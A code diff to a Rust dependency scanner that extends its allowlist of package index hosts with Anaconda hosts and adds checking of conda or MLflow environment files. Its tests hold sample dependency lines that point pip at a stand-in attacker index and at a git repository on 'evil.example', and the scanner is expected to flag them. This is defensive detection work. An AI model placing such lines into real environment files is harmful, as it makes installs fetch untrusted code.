@@ -8,10 +8,12 @@ use crate::rules;
 /// Hosts of indexes that are as good as PyPI: its own, PyTorch's, NVIDIA's.
 const HOSTS: &[&str] = &[
     "data.pyg.org",
+    "conda.anaconda.org",
     "download.pytorch.org",
     "pypi.ngc.nvidia.com",
     "pypi.nvidia.com",
     "pypi.org",
+    "repo.anaconda.com",
 ];
 
 /// Judges each line. One that ends in `\` goes on in the next, but no comment does.
@@ -42,6 +44,17 @@ pub(super) fn judge(text: &str, ledger: &mut Ledger<'_>) {
     whole(&begun, at, ledger);
 }
 
+/// Judges the lists of packages in an environment of conda's or MLflow's: the same lines, each behind a dash.
+pub(super) fn environment(text: &str, ledger: &mut Ledger<'_>) {
+    let mut at = 0u64;
+    for raw in text.split_inclusive(LINE_ENDS) {
+        if let Some(line) = raw.trim_start().strip_prefix("- ") {
+            whole(line.trim().trim_matches(['"', '\'']), at, ledger);
+        }
+        at += raw.len() as u64;
+    }
+}
+
 fn whole(line: &str, at: u64, ledger: &mut Ledger<'_>) {
     let line = line.split(" #").next().unwrap_or_default().trim();
     if elsewhere(line) {
@@ -63,6 +76,19 @@ fn elsewhere(line: &str) -> bool {
 mod tests {
     use super::*;
     use crate::testing::noted_rules;
+
+    #[test]
+    fn packages_of_an_environment() {
+        let told =
+            |text: &str| !noted_rules("conda.yaml", |ledger| environment(text, ledger)).is_empty();
+        let pip = |line: &str| format!("dependencies:\n- python=3.11\n- pip:\n  - {line}\n");
+        assert!(told(&pip("--index-url http://evil.example/simple")));
+        assert!(told(&pip("'evil @ git+https://evil.example/x.git'")));
+        assert!(!told(&pip("torch==2.0 # https://example.org")));
+        assert!(!told(
+            "channels:\n- https://conda.anaconda.org/conda-forge\n- defaults\n"
+        ));
+    }
 
     fn told(text: &str) -> bool {
         !noted_rules("requirements.txt", |ledger| judge(text, ledger)).is_empty()
